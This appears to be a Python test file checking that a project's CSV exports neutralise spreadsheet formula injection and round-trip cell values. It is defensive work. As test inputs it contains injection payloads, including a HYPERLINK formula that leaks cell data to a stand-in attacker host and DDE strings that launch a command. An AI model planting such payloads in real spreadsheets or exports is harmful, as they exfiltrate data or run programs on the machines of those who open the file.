"""CSV exports: no cell runs in a spreadsheet, and every cell can be read back."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dispatch_core.asset_list import AssetRow, read_asset_table
from dispatch_core.find import MatchRow
from dispatch_core.text.spreadsheet import csv_file, csv_text, plain_cell, safe_cell
from dispatch_core.types import DataAsset, Exclusion, Reason
from dispatch_core.views.report import assets_text, ledger_text, match_report_text
from tests.support.syntax import syntax_of

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.invalid?"&A1,"click")'


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (HYPERLINK, f"'{HYPERLINK}"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("x;=1+1;", "x;'=1+1;"),
        ("x;'=1", "x;''=1"),
        ("x\ty|@SUM(1)", "x\ty|'@SUM(1)"),
        ("a; -1", "a; -1"),
        ("\uff1d1", "'\uff1d1"),
        ("'=1", "''=1"),
        ("-0.5", "-0.5"),
        ("+1e-3", "+1e-3"),
        ("ecephys_1", "ecephys_1"),
        ("it's", "it's"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_only_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str, shown: str) -> None:
    assert safe_cell(text) == shown
    assert plain_cell(shown) == text


@given(st.lists(st.text(alphabet="=+-@'\t\r\n\",;|a0\uff0b\x00", max_size=8), min_size=1))
def test_every_cell_reads_back_unchanged_and_none_starts_a_formula(texts: list[str]) -> None:
    rows = cells_of(csv_text(["name"], ([text, "end"] for text in texts)))[1:]

    assert [plain_cell(row[0]) for row in rows] == texts
    begins = [row[0] for row in rows if row[0].startswith(("=", "@", "\t", "\r", "\n", "\uff0b"))]
    assert begins == []


@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
@pytest.mark.parametrize("separator", [";", "\t", "|"])
@given(st.lists(st.text(alphabet="=+@'\t\r\n\",;|a", max_size=8), min_size=1))
def test_no_formula_begins_where_a_spreadsheet_splits_at_another_separator(
    separator: str, quotes: int, texts: list[str]
) -> None:
    table = csv_text(["name", "next"], ([text, text] for text in texts))

    lines = io.StringIO(table, newline="")
    cells = [cell for row in csv.reader(lines, delimiter=separator, quoting=quotes) for cell in row]

    assert [cell for cell in cells if cell.startswith(("=", "+", "@"))] == []


def test_the_ledger_is_safe_and_complete() -> None:
    row = Exclusion("files", Reason.ACCESS_DENIED, "-denied", "@ask", "1", HYPERLINK, "s3://b/=1")

    assert cells_of(ledger_text([row], "ledger.csv")) == [
        ["stage", "reason", "message", "action", "record_id", "name", "location"],
        ["files", "access_denied", "'-denied", "'@ask", "1", f"'{HYPERLINK}", "s3://b/=1"],
    ]


def test_the_csv_of_assets_is_a_list_that_finds_them_again() -> None:
    assets = [
        DataAsset("r1", HYPERLINK, "s3://b/1", ("co-1",)),
        DataAsset("=r2", "two", "s3://b/2"),
    ]

    file = csv_file(assets_text(assets))

    assert cells_of(file.decode("utf-8-sig"))[1] == ["co-1", f"'{HYPERLINK}", "s3://b/1", "r1"]
    assert read_asset_table(file).rows == (AssetRow(2, "co-1"), AssetRow(3, "=r2"))


def test_the_match_report_is_a_list_of_the_same_ids() -> None:
    lines = [
        MatchRow(AssetRow(2, "=1+1"), "not found", message="+nothing"),
        MatchRow(AssetRow(3, "co-1"), "matched", "external_links.Code Ocean", "1", "one"),
    ]

    text = match_report_text(lines)

    assert cells_of(text)[1] == ["2", "'=1+1", "not found", "", "", "'+nothing"]
    assert read_asset_table(text).rows == (AssetRow(2, "=1+1"), AssetRow(3, "co-1"))


def test_a_lone_surrogate_does_not_break_a_download() -> None:
    assert csv_file("\ud800") == b"\xef\xbb\xbf\\ud800"


def test_only_one_file_draws_tables_and_it_escapes_their_cells() -> None:
    # Each Streamlit table has a button that saves it as CSV.
    drawing = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "pages").rglob("*.py")
        for node in ast.walk(syntax_of(path))
        if isinstance(node, ast.Attribute) and node.attr in ("dataframe", "table")
    }

    assert drawing == {"pages/shared/widgets/tables.py"}


def test_no_other_module_writes_csv() -> None:
    writing = {
        path.relative_to(ROOT).as_posix()
        for folder in ("dispatch_core", "pages")
        for path in (ROOT / folder).rglob("*.py")
        for node in ast.walk(syntax_of(path))
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter", "to_csv", "to_excel")
    }

    assert writing == {"dispatch_core/text/spreadsheet.py"}
